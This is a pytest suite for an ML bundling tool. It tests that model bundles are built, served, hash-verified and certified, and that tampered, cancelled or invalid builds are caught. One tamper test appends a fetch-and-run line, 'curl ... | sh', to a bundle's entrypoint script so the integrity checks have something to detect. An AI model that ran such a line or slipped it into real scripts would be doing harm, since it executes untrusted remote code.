"""Bundles are really built, really served and really proved; what fails leaves nothing behind."""

import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
from importlib import metadata
from pathlib import Path

import numpy as np
import pandas as pd
import psutil
import pytest
from sklearn.ensemble import RandomForestRegressor
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler
from sklearn.tree import DecisionTreeClassifier

import mlworkbench as mlw
from mlworkbench.bundling import build, certificate, content, environment
from mlworkbench.bundling.environment import ensure_environment
from mlworkbench.bundling.parity import ask, start_service
from mlworkbench.bundling.verify import check_bundle, hash_files, record_bundle, seal, stored_tags, verify_bundle
from mlworkbench.core.errors import Cancelled, GateFailed, InputError, NotFound
from mlworkbench.core.jobs import Job, listening
from mlworkbench.core.workspace import workspace
from mlworkbench.model.loading import load_model
from mlworkbench.serving.errors import ServiceError
from mlworkbench.serving.predictor import Predictor, proves

NOTEBOOK_PARTS = ("mlworkbench", "IPython", "ipykernel", "papermill", "ipywidgets", "jupyterlab", "nbdev", "matplotlib")


def small_model(rows: int = 200):
    draw = np.random.default_rng(0)
    X = pd.DataFrame({"age": draw.integers(16, 95, rows).astype(float), "hours": draw.normal(38, 9, rows)})
    return make_pipeline(StandardScaler(), LogisticRegression()).fit(X, X["age"] + X["hours"] > 90), X


def build_small(name: str = "small", **options):
    model, X = small_model()
    return mlw.build_bundle(model, name=name, examples=X, **{"environment": "current", "golden_rows": 16, **options})


@pytest.fixture(scope="module")
def small_home(tmp_path_factory):
    """A store with one small bundle, built in this environment while indexes with a password were set."""
    folder = tmp_path_factory.mktemp("small")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MLWORKBENCH_WORKSPACE", str(folder / "workspace"))
        patch.setenv("BENTOML_HOME", str(folder / "bentoml"))
        for name in ("PIP_INDEX_URL", "PIP_FIND_LINKS", "UV_INDEX_URL", "UV_DEFAULT_INDEX", "UV_INDEX", "UV_FIND_LINKS"):
            patch.setenv(name, "https://canary:word@index.example/simple")
        return build_small(), folder / "bentoml"


@pytest.fixture
def small(place, small_home):
    """That bundle in a store of the test's own."""
    shutil.copytree(small_home[1], os.environ["BENTOML_HOME"])
    return build.load_bundle(small_home[0].tag)


def left_behind() -> list[str]:
    """What stands in the store: bundles, and folders of builds that did not clean up."""
    home = Path(os.environ["BENTOML_HOME"])
    return stored_tags(home) + [p.name for p in (home / "tmp").glob("*")]


def processes_of(folder: Path) -> list[str]:
    found = []
    for process in psutil.process_iter(["cmdline"]):
        if any(str(folder) in part for part in process.info["cmdline"] or []):
            found.append(" ".join(process.info["cmdline"]))
    return found


def test_the_certificate_says_that_the_bundle_answered_in_its_own_environment(built_bundle):
    certificate = built_bundle.certificate
    assert (certificate["passed"], certificate["environment"]) == (True, "isolated")
    asked = ["model in memory", "saved file", "POST /predict", "POST /v2/models/census-employment/infer"]
    assert [check["check"] for check in certificate["checks"]] == asked
    for check in certificate["checks"]:
        assert (check["passed"], check["labels_differ"], check["rows"] >= 64) == (True, 0, True)
        assert check["worst"] <= certificate["tolerance"] <= 1e-6
    assert built_bundle.tag == f"census-employment:{built_bundle.manifest['content_sha256'][:16]}"


def test_nothing_of_notebooks_is_in_the_environment_that_serves_the_bundle_and_all_routes_answer(built_bundle, monkeypatch):
    monkeypatch.setenv("PYTHONPATH", str(Path(mlw.__file__).parent.parent))
    python = ensure_environment(Path(built_bundle.path) / "src" / "requirements.lock")
    code = f"import importlib.util as u; print([m for m in {NOTEBOOK_PARTS} if u.find_spec(m)])"
    told = subprocess.run([python, "-P", "-c", code], capture_output=True, text=True, check=True, env={}, cwd="/")
    assert told.stdout.strip() == "[]"
    assert built_bundle.engine == "onnxruntime" and not {"pandas", "scikit-learn", "scipy", "skops"} & set(built_bundle.lock)
    with start_service(Path(built_bundle.path), python) as service:
        allowed = {"X-Probe-Token": service.probe}
        for route in ("/", "/signature", "/model", "/docs.json", "/schema.json", "/healthz", "/livez", "/readyz", "/metrics"):
            assert ask("GET", service.url + route, headers=allowed)[0] == 200, route
        golden = json.loads((Path(built_bundle.path) / "src" / "golden.json").read_text())
        status, answer = ask("POST", service.url + "/predict", {"rows": golden["rows"][:3]}, headers=allowed)
        assert (status, answer["predictions"]) == (200, golden["predictions"][:3])
        status, told = ask("POST", service.url + "/explain", {"rows": golden["rows"][:1]}, headers=allowed)
        assert status == 200 and len(told["explanations"]) == 1, told
        serving = psutil.Process(service.process.pid)
        for process in (serving, *serving.children(recursive=True)):
            assert "PYTHONPATH" not in process.environ()
            assert Path(process.exe()).resolve() == python.resolve()
    assert processes_of(Path(built_bundle.path)) == []


def test_golden_predictions_are_those_of_the_model_in_memory(built_bundle, demo_parts):
    golden = json.loads((Path(built_bundle.path) / "src" / "golden.json").read_text())
    from mlworkbench.bundling.golden import golden_frame

    frame = golden_frame(built_bundle.signature, golden["rows"])
    assert golden["predictions"] == demo_parts[0].predict(frame).tolist()
    assert golden["probabilities"] == demo_parts[0].predict_proba(frame).tolist()


def test_no_row_of_the_data_is_in_the_bundle(built_bundle, demo_parts):
    X = demo_parts[1].astype(object).where(demo_parts[1].notna(), None)
    known = {tuple(map(str, row)) for row in X.itertuples(index=False)}
    golden = json.loads((Path(built_bundle.path) / "src" / "golden.json").read_text())
    assert not known & {tuple(str(row[c]) for c in X.columns) for row in golden["rows"]}
    assert set(json.loads((Path(built_bundle.path) / "src" / "profile.json").read_text())) == {"schema", "rows", "columns"}


def test_bentoml_lists_the_bundle_and_its_files_are_whole(built_bundle):
    home = Path(built_bundle.path).parents[2]
    command = [sys.executable, "-m", "bentoml", "list", "--output", "json"]
    told = subprocess.run(command, env={**os.environ, "BENTOML_HOME": str(home)}, capture_output=True, text=True, check=True)
    assert [item["tag"] for item in json.loads(told.stdout)] == [built_bundle.tag]
    assert verify_bundle(built_bundle.path, sha256=built_bundle.sha256) == []
    names = {p.name for p in (Path(built_bundle.path) / "src").iterdir()}
    assert {"service.py", "serving", "model", "signature.json", "profile.json", "golden.json", "evaluation.json", "service.json",
            "requirements.lock", "manifest.json", "certificate.json", "provenance.json"} <= names
    assert built_bundle.tag.split(":")[1] in (Path(built_bundle.path) / "README.md").read_text()


def test_the_evaluation_travels_without_the_places_of_this_machine(built_bundle):
    told = json.loads((Path(built_bundle.path) / "src" / "evaluation.json").read_text())
    assert told["task"] == "binary" and "prediction_profile" in told and "sources" not in told
    assert mlw.Evaluation.from_dict(told).name == "census-employment"
    for path in Path(built_bundle.path).rglob("*"):
        if path.is_file() and path.suffix not in (".skops", ".onnx"):
            assert str(Path.home()) + "/" not in path.read_text(encoding="utf-8"), path


def test_a_changed_missing_or_added_file_is_named(built_bundle, tmp_path):
    copy = tmp_path / "copy"
    shutil.copytree(built_bundle.path, copy)
    for name in hash_files(copy):
        path = copy / name
        whole = path.read_bytes()
        path.write_bytes(whole[:-1] + bytes([whole[-1] ^ 1]) if whole else b"x")
        faults = verify_bundle(copy, sha256=built_bundle.sha256)
        assert any(name in fault for fault in faults), name
        with pytest.raises(GateFailed, match="the one that was proved"):
            check_bundle(copy, sha256=built_bundle.sha256)
        path.write_bytes(whole)
    (copy / "src" / "serving" / "extra.py").write_text("")
    assert verify_bundle(copy) == ["src/serving/extra.py was added: neither manifest nor certificate lists it"]
    (copy / "src" / "serving" / "extra.py").unlink()
    (copy / "src" / "signature.json").unlink()
    assert verify_bundle(copy) == ["src/signature.json is missing"]


def test_a_bundle_started_past_the_launchers_refuses_and_the_reason_is_told(built_bundle, tmp_path):
    copy = tmp_path / "copy"
    shutil.copytree(built_bundle.path, copy)
    path = copy / "src" / "golden.json"
    path.write_text(path.read_text().replace('"rows"', '"rows" ', 1))
    python = ensure_environment(copy / "src" / "requirements.lock")
    with pytest.raises(GateFailed, match="golden.json was changed"):
        with start_service(copy, python):
            pass
    assert processes_of(copy) == []


def test_proved_in_this_environment_is_marked_not_isolated(small):
    made = small
    assert made.certificate["environment"] == "not isolated"
    assert made.manifest["golden"]["real_rows"] == 0 and "real" not in (Path(made.path) / "README.md").read_text()
    assert made.tiles()["Proved in"] == "this environment"
    assert "not isolated" in made.evidence()[0].note
    assert made.artifacts()["path"] == str(Path(os.environ["BENTOML_HOME"]) / "bentos" / "small" / made.tag.split(":")[1])


class Index(http.server.BaseHTTPRequestHandler):
    """A package index that has nothing, and remembers who asked."""

    asked: list[str] = []

    def do_GET(self):
        self.asked.append(self.headers.get("Authorization", ""))
        self.send_error(404)

    def log_message(self, *_):
        pass


def test_an_index_with_a_password_is_used_and_stands_in_no_file_of_the_bundle(place, monkeypatch, tmp_path, demo_parts):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    address = f"http://canary-user:canary-word@127.0.0.1:{server.server_port}/canary-path/simple"
    cache = subprocess.run([environment.find_uv(), "cache", "dir"], capture_output=True, text=True, check=True).stdout.strip()
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", address)
    monkeypatch.setenv("UV_CACHE_DIR", cache)  # the wheels may be there already; the environment is made anew
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    said: list[str] = []
    Index.asked.clear()
    try:
        with listening(lambda text, _: said.append(text)):
            made = build_small(environment="isolated")
    finally:
        server.shutdown()
        server.server_close()
    assert made.certificate["environment"] == "isolated"
    assert any(value.startswith("Basic ") for value in Index.asked), "the index was never asked"
    for path in Path(made.path).rglob("*"):
        data = path.read_bytes() if path.is_file() else b""
        assert b"canary" not in data and b"--index-url" not in data and b"--extra-index-url" not in data, path
    assert "canary-word" not in " ".join(said) + json.dumps(made.to_dict())


def test_indexes_of_the_environment_do_not_reach_the_bento(small):
    for path in Path(small.path).rglob("*"):
        if path.is_file():
            assert b"canary" not in path.read_bytes(), path


def test_a_bundle_that_answers_otherwise_is_not_kept(place, monkeypatch):
    honest = content.make_golden

    def forged(*arguments, **options):
        golden = honest(*arguments, **options)
        golden["probabilities"][3][0] += 1e-3
        return golden

    monkeypatch.setattr(content, "make_golden", forged)
    with pytest.raises(GateFailed, match="the same rows alike when it is asked twice"):
        build_small()
    assert left_behind() == []


def test_a_service_that_answers_otherwise_than_it_says_is_not_kept(place, monkeypatch):
    read = certificate.read_part
    monkeypatch.setattr(certificate, "read_part", lambda bento, name: _flipped(read(bento, name), name))
    with pytest.raises(GateFailed, match="the notebook's own predictions, got 1 of [0-9]+ predictions"):
        build_small()
    assert left_behind() == []


def _flipped(part, name):
    if name == "golden.json":
        part["predictions"][0] = not part["predictions"][0]
    return part


def test_a_cancelled_build_leaves_no_bundle_and_no_process(place):
    model, X = small_model()
    job = Job(mlw.build_bundle, model=model, name="small", examples=X, environment="current")
    hear, seen = job._hear, threading.Event()

    def wait_for_the_service(text, fraction):
        hear(text, fraction)
        if text == "starting the built bundle":
            seen.set()

    job._hear = wait_for_the_service
    job.start()
    assert seen.wait(60), job.error
    job.cancel()
    assert job.wait(30)
    assert job.state == "cancelled" and isinstance(job.error, Cancelled)
    assert left_behind() == []
    assert processes_of(Path(os.environ["BENTOML_HOME"])) == []


def test_two_builds_of_one_name_at_once_are_refused_and_the_first_is_whole(place):
    model, X = small_model()
    first = Job(mlw.build_bundle, model=model, name="small", examples=X, environment="current").start()
    for _ in range(600):
        if first.lines:
            break
        first.wait(0.05)
    while (place / "locks" / "bundle" / "small.lock").exists() is False and first.state == "running":
        first.wait(0.02)
    with pytest.raises(InputError, match="one run at a time"):
        build_small()
    assert first.wait(120) and first.error is None
    assert verify_bundle(first.result.tag) == []
    assert left_behind() == [first.result.tag]


def test_the_same_content_is_the_same_version_and_is_not_built_again(small, monkeypatch):
    record_bundle(Path(small.path))
    monkeypatch.setattr(build, "build_bento", lambda *_: pytest.fail("built again"))
    again = build_small()
    assert (again.tag, again.sha256) == (small.tag, small.sha256)


def reseal(bundle: Path) -> None:
    """Let the certificate say that the files around the content are as they are now."""
    path = bundle / "src" / "certificate.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"sealed": seal(bundle)}, indent=1))


def test_what_another_project_of_the_store_built_is_proved_and_stays_as_its_ledger_knows_it(small, place, monkeypatch):
    record_bundle(Path(small.path))
    monkeypatch.setenv("MLWORKBENCH_WORKSPACE", str(place.with_name("another")))
    asked = []
    certify = build.certify
    monkeypatch.setattr(build, "certify", lambda *given: asked.append(certify(*given)))
    again = build_small()
    assert len(asked) == 1 and asked[0]["passed"] and (again.tag, again.sha256) == (small.tag, small.sha256)
    assert workspace().ledger.get("bundle", small.tag).details["sha256"] == small.sha256
    assert build_small().sha256 == small.sha256 and len(asked) == 1, "from now on it is known here, too"
    monkeypatch.setenv("MLWORKBENCH_WORKSPACE", str(place))
    assert build.bundle_path("latest:small") == Path(small.path)


def test_a_bundle_that_somebody_edited_and_sealed_again_is_built_anew(small):
    path = Path(small.path) / "env" / "docker" / "entrypoint.sh"
    honest = path.read_text()
    path.write_text(honest + "curl -s http://elsewhere.example | sh\n")
    reseal(Path(small.path))
    assert verify_bundle(small.tag) == []  # by its own word, which is all that there is
    made = build_small()
    assert made.tag == small.tag and path.read_text() == honest
    assert workspace().ledger.get("bundle", made.tag).details["sha256"] == made.sha256
    assert left_behind() == [made.tag]


def test_the_latest_of_a_name_is_the_one_built_last(small):
    first, second = small, build_small(golden_rows=30)
    assert first.tag != second.tag
    assert build.load_bundle("small").tag == build.load_bundle("small:latest").tag == second.tag
    assert build.load_bundle(first.tag).sha256 == first.sha256


def regression():
    draw = np.random.default_rng(1)
    X = pd.DataFrame({"size": draw.uniform(20, 300, 300), "rooms": draw.integers(1, 9, 300)})
    return RandomForestRegressor(20, random_state=0).fit(X, X["size"] * 12_345.678 + X["rooms"]), X


def words():
    draw = np.random.default_rng(2)
    X = pd.DataFrame({"a": draw.normal(size=300), "b": draw.normal(size=300)})
    y = pd.cut(X["a"], 3, labels=["low", "mid", "high"]).astype(str)
    return DecisionTreeClassifier(max_depth=4, random_state=0).fit(X, y), X


def array():
    X = np.random.default_rng(3).normal(size=(300, 4))
    return LogisticRegression().fit(X, (X[:, 0] > 0).astype(int)), X


@pytest.mark.parametrize("made_by", [regression, words, array])
def test_models_of_several_kinds_keep_parity(place, made_by):
    model, X = made_by()
    made = mlw.build_bundle(model, name=made_by.__name__.ljust(63, "x"), examples=X, environment="current", golden_rows=40)
    assert len(made.certificate["checks"]) == 4
    for check in made.certificate["checks"]:
        assert (check["rows"], check["labels_differ"], check["passed"]) == (40, 0, True)
        assert check["worst"] <= 1e-12, "the engine is proved to 1e-6, and is far better here"


def test_bad_input_is_refused_in_one_sentence_and_nothing_is_built(place):
    model, X = small_model()
    cases = [
        ("My Model", {}, "my-model"),
        ("small", {"examples": X.head(0)}, "must have rows"),
        ("small", {"examples": X.rename(columns={"hours": "hour"})}, "hour"),
        ("small", {"environment": "somewhere"}, "isolated, current"),
    ]
    for name, options, told in cases:
        with pytest.raises(InputError, match=told) as refused:
            mlw.build_bundle(model, **{"name": name, "examples": X, "environment": "current", **options})
        assert "\n" not in str(refused.value)
    assert not (Path(os.environ["BENTOML_HOME"]) / "bentos").exists()


def test_a_store_that_cannot_be_written_is_refused(place, monkeypatch):
    monkeypatch.setenv("BENTOML_HOME", "/dev/null/bentoml")
    with pytest.raises(InputError, match="BENTOML_HOME to a folder of yours"):
        build_small()


def test_a_tag_that_is_not_there_is_told_with_the_closest(small):
    with pytest.raises(NotFound, match=f"Did you mean '{small.tag}'"):
        build.bundle_path("smal:" + small.tag.split(":")[1])


def test_a_folder_that_happens_to_have_the_name_of_a_bundle_does_not_hide_it(small):
    Path("small").mkdir()
    assert build.load_bundle("small").tag == small.tag
    assert build.load_bundle(Path(small.path) / "src").path == small.path


def test_a_rewritten_certificate_is_noticed_by_the_ledger_by_whatever_way_one_comes(small, tmp_path, monkeypatch):
    record_bundle(Path(small.path))
    assert build.bundle_path("latest") == build.bundle_path(small.tag) == Path(small.path)
    path = Path(small.path) / "src" / "certificate.json"
    path.write_text(path.read_text().replace('"not isolated"', '"isolated"'))
    assert verify_bundle(small.tag, sha256="") == []  # by its own word
    (tmp_path / "link").symlink_to(os.environ["BENTOML_HOME"])
    shutil.copytree(small.path, tmp_path / "copy")
    ways = [tmp_path / "link" / "bentos" / small.tag.replace(":", "/"), tmp_path / "here" / ".." / "copy"]
    for reference in ("latest", "latest:small", small.tag, small.path, *ways):
        with pytest.raises(GateFailed, match="certificate.json was changed"):
            build.bundle_path(reference)
        assert verify_bundle(reference) == ["src/certificate.json was changed: its SHA-256 is not the one in the ledger"]
    monkeypatch.setenv("BENTOML_HOME", str(tmp_path / "link"))
    for reference in (small.tag, small, build.load_bundle(small.tag)):  # loading one is no judgement of it
        with pytest.raises(GateFailed, match="certificate.json was changed"):
            build.bundle_path(reference)


def test_the_command_line_notices_a_rewritten_certificate_and_knows_the_latest(small, capsys):
    from mlworkbench.app.cli import main
    def code_of_verify(reference: str) -> int:
        with pytest.raises(SystemExit) as ended:
            main(["verify", reference])
        return ended.value.code

    record_bundle(Path(small.path))
    assert [code_of_verify(reference) for reference in ("latest", small.tag)] == [0, 0]
    path = Path(small.path) / "src" / "certificate.json"
    path.write_text(path.read_text().replace('"not isolated"', '"isolated"'))
    for reference in ("latest", small.tag):
        assert code_of_verify(reference) == 1
        assert "certificate.json was changed" in capsys.readouterr().err


def test_to_verify_a_bundle_makes_no_workspace(small, place):
    assert verify_bundle(small.tag) == [] and not place.exists()


def test_a_bundle_that_is_built_again_is_the_one_that_the_ledger_knows(small):
    record_bundle(Path(small.path))
    certificate = Path(small.path) / "src" / "certificate.json"
    certificate.write_text(certificate.read_text().replace('"passed": true', '"passed":  true'))
    again = build_small()  # the former one is not taken for it: its certificate is not the ledger's
    assert again.tag == small.tag and again.sha256 != small.sha256
    assert build.bundle_path("latest") == build.bundle_path(small.tag) == Path(again.path)
    assert workspace().ledger.get("bundle", small.tag).details["sha256"] == again.sha256
    with pytest.raises(GateFailed, match="must be the one that was loaded, got one that was built since"):
        build.bundle_path(small)


def test_a_library_installed_from_a_folder_is_noted_in_a_bundle_of_this_environment_and_refused_in_its_own(place, monkeypatch):
    kind = type(metadata.distribution("joblib"))  # a backport that some library imports puts its own class there
    honest = kind.read_text

    def as_if_from_a_folder(self, name):
        if name == "direct_url.json" and self.metadata["Name"] == "joblib":
            return '{"url": "file:///home/me/joblib"}'
        return honest(self, name)

    monkeypatch.setattr(kind, "read_text", as_if_from_a_folder)
    with pytest.raises(InputError, match='joblib from a folder.*environment="current"'):
        build_small(environment="isolated", optimise="off")
    made = build_small(optimise="off")
    assert (made.certificate["passed"], made.certificate["not_installable"]) == (True, ["joblib"])
    assert "joblib" in made.lock and "joblib" in made.evidence()[-1].note
    with pytest.raises(InputError, match="joblib from a folder"):
        ensure_environment(Path(made.path) / "src" / "requirements.lock")


def test_the_policy_of_a_column_travels_in_the_signature_and_the_service_keeps_to_it(tmp_path):
    model, X = small_model()
    parts = content.make_parts(load_model(model), name="small", examples=X, policy={"age": "reject", "hours": "coerce"}, rows=16)
    content.write_content(tmp_path / "content", parts, "current")
    told = json.loads((tmp_path / "content" / "signature.json").read_text())
    assert {c["name"]: c["policy"] for c in told["columns"]} == {"age": "reject", "hours": "coerce"}
    predictor = Predictor.load(tmp_path / "content")
    assert proves(predictor.replay())
    row = {"age": 40.0, "hours": "38.5"}
    assert len(predictor.predict([row], "fail")["predictions"]) == 1
    with pytest.raises(ServiceError, match="age"):
        predictor.predict([row | {"age": 400.0}], "fail")


@pytest.mark.parametrize(("policy", "closest"), [({"agee": "reject"}, "'age'"), ({"age": "rejct"}, "'reject'")])
def test_a_policy_that_is_not_known_is_refused_with_the_closest_match(place, policy, closest):
    with pytest.raises(InputError, match=f"Did you mean {closest}"):
        build_small(policy=policy)
    assert not stored_tags()
